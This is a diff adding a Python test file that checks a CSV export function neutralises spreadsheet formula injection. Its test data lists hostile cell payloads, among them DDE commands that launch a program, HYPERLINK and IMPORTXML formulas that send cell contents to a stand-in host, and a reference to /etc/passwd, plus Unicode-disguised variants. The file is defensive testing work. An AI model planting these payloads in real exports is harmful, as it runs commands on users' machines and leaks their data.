@@ -1,0 +1,127 @@
+"""A CSV that a spreadsheet cannot run: texts stay texts, numbers stay numbers."""
+
+from __future__ import annotations
+
+import unicodedata
+
+import polars as pl
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+
+from batchfish.table.spreadsheet import made_safe, safe_names
+
+FORMULAS = [
+    "=1+1",
+    "=cmd|' /C calc'!A0",
+    '=HYPERLINK("http://evil.example?x="&A1,"click")',
+    '=IMPORTXML(CONCAT("http://evil.example?v=",A1),"//a")',
+    "=WEBSERVICE(A1)",
+    "=DDE(1;2;3)",
+    "='file:///etc/passwd'#$passwd.A1",
+    "+1+cmd|' /C calc'!A0",
+    "+A1",
+    "+44 20 7946 0000",
+    "-1+1",
+    "-A1",
+    "-2+3+cmd|' /C calc'!A0",
+    "--5",
+    "-",
+    "-5 kg",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "@A1",
+    "@",
+    "\t=1+1",
+    "\tplain",
+    "\r=1+1",
+    "\rplain",
+    "\n=1+1",
+    "\r\n=1+1",
+    " =1+1",
+    "   +1+A1",
+    "\u00a0=1+1",
+    "\u2003=1+1",
+    "\u3000=1+1",
+    "\u200b=1+1",
+    "\ufeff=1+1",
+    "\u202e=1+1",
+    "\u2066=1+1",
+    "\u00ad=1+1",
+    "\x0b=1+1",
+    "\x7f=1+1",
+    "\uff1d1+1",
+    "\uff0b1+A1",
+    "\uff0d1+A1",
+    "\uff20SUM(1)",
+    " \uff1d1+1",
+    "\ufe661+1",
+    "\ufe621+A1",
+    "\ufe631+A1",
+    "\ufe6bSUM(1)",
+    "=1+1\n=2+2",
+    "-5\n=1+1",
+    "-5,=1+1",
+    "+٣",
+]
+PLAIN = [
+    "",
+    "Walden",
+    "a=b",
+    "1+1",
+    "'=1+1",
+    "a\n=1+1",
+    "é",
+    '"=1+1"',
+    "{=1+1}",
+    "−5",
+    "·=1",
+    '{"a":"=1+1"}',
+    "-5",
+    "+5",
+    "-5.25",
+    "+1e-7",
+    "-1E+10",
+    "5",
+]
+
+
+def safe(text: str) -> str:
+    return str(made_safe(pl.DataFrame({"x": [text]}))["x"].item())
+
+
+@pytest.mark.parametrize("text", FORMULAS)
+def test_a_text_that_would_run_is_made_text(text: str) -> None:
+    assert safe(text) == "'" + text.replace("\0", "␀")
+    assert safe_names([text]) == [safe(text)]
+
+
+@pytest.mark.parametrize("text", PLAIN)
+def test_any_other_text_and_a_text_that_is_a_number_stay(text: str) -> None:
+    assert safe(text) == text
+
+
+@given(
+    st.text(alphabet=st.sampled_from("=+-@\uff1d\uff0b\uff0d\uff20 \t\r\n\u00a0\u200b\ufeff0159.eEa'\",;"))
+    | st.text()
+)
+def test_no_text_is_left_that_would_run(text: str) -> None:
+    """Judged by rules written anew: what follows the unseen decides."""
+    made = safe(text)
+    seen = made
+    while seen and unicodedata.category(seen[0])[0] in "ZC" and seen[0] not in "\t\r":
+        seen = seen[1:]
+    number = made.lstrip("+-").replace("e-", "e").replace("E-", "E").replace("e+", "e").replace("E+", "E")
+    is_number = number.isascii() and number.replace(".", "").replace("e", "").replace("E", "").isdigit()
+    assert seen[:1] not in set("=+-@\t\r\uff1d\uff0b\uff0d\uff20\ufe66\ufe62\ufe63\ufe6b") or is_number
+    assert made.removeprefix("'").replace("␀", "") == text.removeprefix("'").replace("\0", "").replace(
+        "␀", ""
+    )
+
+
+def test_a_nul_is_shown_since_many_readers_stop_at_one() -> None:
+    assert safe("a\0b") == "a␀b"
+
+
+def test_typed_columns_and_nulls_stay() -> None:
+    frame = pl.DataFrame({"n": [-5, None], "f": [-0.5, 1e-7], "b": [True, None], "s": [None, "=1"]})
+    assert made_safe(frame).rows() == [(-5, -0.5, True, None), (None, 1e-7, None, "'=1")]
